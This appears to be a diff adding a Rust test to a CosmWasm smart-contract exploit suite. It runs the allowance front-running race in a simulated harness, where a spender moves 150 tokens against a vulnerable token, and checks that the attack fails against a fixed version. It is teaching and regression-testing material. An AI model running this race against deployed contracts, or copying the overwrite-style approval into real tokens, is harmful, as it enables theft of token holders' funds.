@@ -0,0 +1,123 @@
+//! Front-running an allowance change to spend old + new allowance
+
+use anyhow::{ensure, Result as AnyResult};
+use cosmwasm_std::{Addr, Empty, Uint128};
+use cw_multi_test::{Contract, ContractWrapper};
+
+use crate::contracts::allowance_race::{
+    execute, instantiate, query, secure, ExecuteMsg, InitialBalance, InstantiateMsg, QueryMsg,
+};
+use crate::{ExploitSpec, Harness};
+
+pub const SPEC: ExploitSpec = ExploitSpec {
+    example: "allowance_race",
+    description: "Spender front-runs Approve(100 -> 50) and moves 150 tokens",
+    must_succeed: || attack(vulnerable, Allowance::Absolute),
+    must_fail: || attack(secure, Allowance::Relative),
+    rejection: "Insufficient allowance",
+};
+
+fn vulnerable() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(execute, instantiate, query))
+}
+
+fn secure() -> Box<dyn Contract<Empty>> {
+    Box::new(ContractWrapper::new(
+        secure::execute,
+        secure::instantiate,
+        secure::query,
+    ))
+}
+
+/// How the owner changes an allowance on each version of the token
+#[derive(Clone, Copy)]
+enum Allowance {
+    /// `Approve { amount }` overwrites the allowance
+    Absolute,
+    /// `IncreaseAllowance` / `DecreaseAllowance` by the difference
+    Relative,
+}
+
+fn change_allowance(
+    h: &mut Harness,
+    style: Allowance,
+    token: &Addr,
+    spender: &Addr,
+    from: u128,
+    to: u128,
+) -> AnyResult<()> {
+    let owner = h.victim.clone();
+    let spender = spender.to_string();
+    match style {
+        Allowance::Absolute => h.execute(
+            &owner,
+            token,
+            &ExecuteMsg::Approve {
+                spender,
+                amount: Uint128::new(to),
+            },
+            &[],
+        ),
+        Allowance::Relative if to >= from => h.execute(
+            &owner,
+            token,
+            &secure::ExecuteMsg::IncreaseAllowance {
+                spender,
+                amount: Uint128::new(to - from),
+            },
+            &[],
+        ),
+        Allowance::Relative => h.execute(
+            &owner,
+            token,
+            &secure::ExecuteMsg::DecreaseAllowance {
+                spender,
+                amount: Uint128::new(from - to),
+            },
+            &[],
+        ),
+    }?;
+    Ok(())
+}
+
+fn attack(code: fn() -> Box<dyn Contract<Empty>>, style: Allowance) -> AnyResult<()> {
+    let mut h = Harness::new();
+    let (alice, bob) = (h.victim.clone(), h.attacker.clone());
+
+    let token = h.deploy(
+        code(),
+        &InstantiateMsg {
+            initial_balances: vec![InitialBalance {
+                address: alice.to_string(),
+                amount: Uint128::new(1_000),
+            }],
+        },
+        &[],
+        "token",
+    )?;
+
+    let spend = |amount: u128| ExecuteMsg::TransferFrom {
+        owner: alice.to_string(),
+        recipient: bob.to_string(),
+        amount: Uint128::new(amount),
+    };
+
+    change_allowance(&mut h, style, &token, &bob, 0, 100)?;
+
+    // Alice's change to 50 is pending; Bob's TransferFrom lands first
+    h.execute(&bob, &token, &spend(100), &[])?;
+    change_allowance(&mut h, style, &token, &bob, 100, 50)?;
+    h.execute(&bob, &token, &spend(50), &[])?;
+
+    let bob_balance: Uint128 = h.app.wrap().query_wasm_smart(
+        &token,
+        &QueryMsg::Balance {
+            address: bob.to_string(),
+        },
+    )?;
+    ensure!(
+        bob_balance > Uint128::new(100),
+        "spender stayed within the 100 token allowance"
+    );
+    Ok(())
+}